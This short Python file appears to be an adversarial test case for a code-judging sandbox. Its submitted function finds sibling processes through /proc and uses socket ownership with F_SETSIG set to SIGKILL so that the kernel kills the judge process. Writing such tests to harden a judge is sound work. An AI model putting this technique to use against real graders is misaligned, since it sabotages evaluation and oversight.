# attack: Has the kernel kill the judge in its name: a socket pair of its own, owned by the judge, on which data arrives
# expect: wrong_answer, crashed
import fcntl
import os
import signal
import socket

F_SETSIG = 10


def siblings():
    parent = os.getppid()
    if parent == 1:
        return [2]
    with open(f'/proc/{parent}/task/{parent}/children') as children:
        return [pid for pid in map(int, children.read().split()) if pid != os.getpid()]


def f(x):
    try:
        for pid in siblings():
            ours, theirs = socket.socketpair()
            fcntl.fcntl(theirs, fcntl.F_SETOWN, pid)
            fcntl.fcntl(theirs, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(theirs, fcntl.F_SETFL, fcntl.FASYNC)
            ours.send(b'x')
    except (OSError, ValueError):
        pass
    return None
